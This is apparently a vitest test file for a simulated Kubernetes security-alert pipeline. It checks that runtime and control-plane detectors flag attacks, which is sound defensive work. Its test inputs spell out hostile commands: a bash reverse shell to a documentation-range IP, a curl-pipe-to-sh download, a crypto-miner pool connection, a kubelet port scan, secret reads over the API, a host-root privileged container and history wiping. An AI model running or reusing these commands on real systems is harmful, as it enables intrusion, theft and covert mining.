import { describe, expect, it } from 'vitest';
import { IP } from '../cluster/constants';
import type { ProcessInfo, RuntimeEvent } from '../cluster/runtime';
import { nodepoolNode } from '../cluster/inventory';
import { Random } from '../../src/shared/random';
import { RowWriter } from '../core/rowWriter';
import { SimulatedClock } from '../core/simulatedClock';
import { MemorySink } from '../core/sink';
import type { ApiCall, AuditEvent } from '../telemetry/auditLog';
import { AlertEmitter } from './alerts';
import { ControlPlaneAnalytics } from './controlPlane';
import { RuntimeSensor } from './sensor';

const START = Date.parse('2026-03-02T10:00:00Z');

function harness() {
  const clock = new SimulatedClock(START);
  const sink = new MemorySink();
  const writer = new RowWriter(sink);
  const alerts = new AlertEmitter({ clock, random: new Random(1), writer, endMs: START + 86_400_000 });
  const finish = async () => {
    clock.runUntil(START + 86_400_000 - 1);
    await writer.drain();
    return sink.rows('SecurityAlert').map((row) => ({
      type: String(row.AlertType),
      extended: JSON.parse(String(row.ExtendedProperties)) as Record<string, string>,
    }));
  };
  return { alerts, finish, clock };
}

const node = nodepoolNode(0);
const appPod = {
  name: 'storefront-7d9c6b8f5-x2x7q',
  namespace: 'shop',
  uid: 'u1',
  system: false,
  privileged: false,
  image: 'contoso.azurecr.io/shop/storefront:1.4.2',
  workload: 'storefront',
};
const process = (cmdline: string, extra: Partial<ProcessInfo> = {}): ProcessInfo => ({
  pid: 10,
  exe: '/bin/sh',
  cmdline,
  parentExe: '/bin/sh',
  user: 'www-data',
  ...extra,
});
const runtime = (event: Partial<RuntimeEvent>): RuntimeEvent =>
  ({
    kind: 'process',
    time: START,
    node,
    pod: appPod,
    container: 'php-fpm',
    containerId: 'c1',
    process: process('true'),
    ...event,
  }) as RuntimeEvent;

function audit(call: Partial<ApiCall>): [AuditEvent, ApiCall] {
  const full: ApiCall = {
    time: START,
    user: { username: 'j.doe@contoso.com', groups: ['system:authenticated'] },
    sourceIp: IP.attacker,
    userAgent: 'kubectl',
    verb: 'create',
    code: 201,
    ...call,
  };
  return [{ user: full.user } as AuditEvent, full];
}

describe('runtime sensor', () => {
  it.each([
    ['bash -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"', 'K8S.NODE_ReverseShell'],
    ['/tmp/.x -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFF', 'K8S.NODE_DigitalCurrencyMining'],
    ['curl -fsSL http://203.0.113.66/k.sh | sh', 'K8S.NODE_DownloadAndRunCombo'],
    ['nmap -sT -Pn -p 10250 10.224.0.0/24', 'K8S.NODE_KnownLinuxAttackTool'],
    [
      'curl -sk https://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/secret/kube-system',
      'K8S.NODE_KubernetesDashboard',
    ],
    [
      'curl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/secrets',
      'K8S.NODE_KubernetesAPI',
    ],
    [
      'docker run -d --privileged -v /:/host alpine:3.19 sleep infinity',
      'K8S.NODE_PrivilegedContainerArtifacts',
    ],
    ['history -c; rm -f /root/.bash_history', 'K8S.NODE_HistoryFileCleared'],
  ])('flags %s', async (cmdline, expected) => {
    const { alerts, finish } = harness();
    new RuntimeSensor(alerts).observe(runtime({ process: process(cmdline) }));
    expect((await finish()).map((a) => a.type)).toContain(expected);
  });

  it('flags IMDS token requests and mining-pool connections', async () => {
    const { alerts, finish } = harness();
    const sensor = new RuntimeSensor(alerts);
    sensor.observe(
      runtime({ kind: 'network', destinationIp: IP.imds, destinationPort: 80 } as Partial<RuntimeEvent>),
    );
    sensor.observe(
      runtime({
        kind: 'network',
        destinationIp: IP.miningPool,
        destinationPort: 3333,
        domain: 'pool.supportxmr.com',
        time: START + 5000,
      } as Partial<RuntimeEvent>),
    );
    expect((await finish()).map((a) => a.type).sort()).toEqual([
      'K8S.NODE_DigitalCurrencyMining',
      'K8S.NODE_ImdsCall',
    ]);
  });

  it('flags a burst of reconnaissance commands only from the fourth within ten minutes', async () => {
    const { alerts, finish } = harness();
    const sensor = new RuntimeSensor(alerts);
    ['whoami', 'id', 'uname -a'].forEach((cmd, i) =>
      sensor.observe(runtime({ time: START + i * 1000, process: process(cmd) })),
    );
    expect(await finish()).toEqual([]);
    const second = harness();
    const again = new RuntimeSensor(second.alerts);
    ['whoami', 'id', 'uname -a', 'cat /etc/passwd'].forEach((cmd, i) =>
      again.observe(runtime({ time: START + i * 1000, process: process(cmd) })),
    );
    expect((await second.finish()).map((a) => a.type)).toEqual(['K8S.NODE_ReconnaissanceArtifactsBurst']);
  });

  it("flags commands exec'd into a privileged container, and ignores Azure's own add-ons", async () => {
    const { alerts, finish } = harness();
    const sensor = new RuntimeSensor(alerts);
    sensor.observe(
      runtime({ pod: { ...appPod, privileged: true }, process: process('bash', { parentExe: 'runc' }) }),
    );
    sensor.observe(
      runtime({
        pod: { ...appPod, system: true, privileged: true },
        process: process('curl -fsSL http://x/y | sh', { parentExe: 'runc' }),
      }),
    );
    expect((await finish()).map((a) => a.type)).toEqual(['K8S.NODE_PrivilegedExecutionInContainer']);
  });
});

describe('control-plane analytics', () => {
  const podBody = (spec: Record<string, unknown>) => ({
    kind: 'Pod',
    metadata: { name: 'x', namespace: 'default' },
    spec: {
      containers: [
        {
          name: 'c',
          image: 'busybox:1.36',
          volumeMounts: [{ name: 'sock', mountPath: '/var/run/docker.sock' }],
        },
      ],
      ...spec,
    },
  });

  it('flags a Docker socket mount as a sensitive mount, with the path in ExtendedProperties', async () => {
    const { alerts, finish } = harness();
    new ControlPlaneAnalytics(alerts).analyze(
      ...audit({
        resource: 'pods',
        namespace: 'default',
        requestObject: podBody({ volumes: [{ name: 'sock', hostPath: { path: '/var/run/docker.sock' } }] }),
      }),
    );
    const raised = await finish();
    expect(raised.map((a) => a.type)).toEqual(['K8S_SensitiveMount']);
    expect(raised[0]!.extended['Sensitive mount path']).toBe('/var/run/docker.sock');
  });

  it('flags an exposed dashboard, a cluster-admin binding and a wildcard role, but not denied requests', async () => {
    const { alerts, finish } = harness();
    const analytics = new ControlPlaneAnalytics(alerts);
    analytics.analyze(
      ...audit({
        verb: 'patch',
        code: 200,
        resource: 'services',
        namespace: 'kubernetes-dashboard',
        name: 'kubernetes-dashboard',
        requestObject: { spec: { type: 'LoadBalancer' } },
      }),
    );
    analytics.analyze(
      ...audit({
        resource: 'clusterrolebindings',
        requestObject: {
          metadata: { name: 'b' },
          roleRef: { name: 'cluster-admin' },
          subjects: [{ kind: 'User', name: 'x' }],
        },
      }),
    );
    analytics.analyze(
      ...audit({
        resource: 'clusterroles',
        requestObject: {
          metadata: { name: 'r' },
          rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
        },
      }),
    );
    analytics.analyze(
      ...audit({
        resource: 'clusterroles',
        code: 403,
        requestObject: {
          metadata: { name: 'r2' },
          rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
        },
      }),
    );
    expect((await finish()).map((a) => a.type).sort()).toEqual([
      'K8S_ClusterAdminBinding',
      'K8S_ExposedDashboard',
      'K8S_HighPrivilegesRole',
    ]);
  });

  it('flags a service-account token used from outside the cluster, and requests from a TOR exit', async () => {
    const { alerts, finish } = harness();
    const analytics = new ControlPlaneAnalytics(alerts);
    const sa = { username: 'system:serviceaccount:shop:storefront', groups: ['system:serviceaccounts'] };
    analytics.analyze(
      ...audit({ user: sa, sourceIp: IP.clusterEgress, verb: 'list', code: 200, resource: 'secrets' }),
    );
    analytics.analyze(
      ...audit({ user: sa, sourceIp: IP.attacker, verb: 'list', code: 200, resource: 'secrets' }),
    );
    analytics.analyze(...audit({ sourceIp: IP.torExit, verb: 'get', code: 200, resource: 'pods' }));
    expect((await finish()).map((a) => a.type).sort()).toEqual([
      'K8S_ServiceAccountRareOperation',
      'K8S_TI_Proxy',
    ]);
  });
});
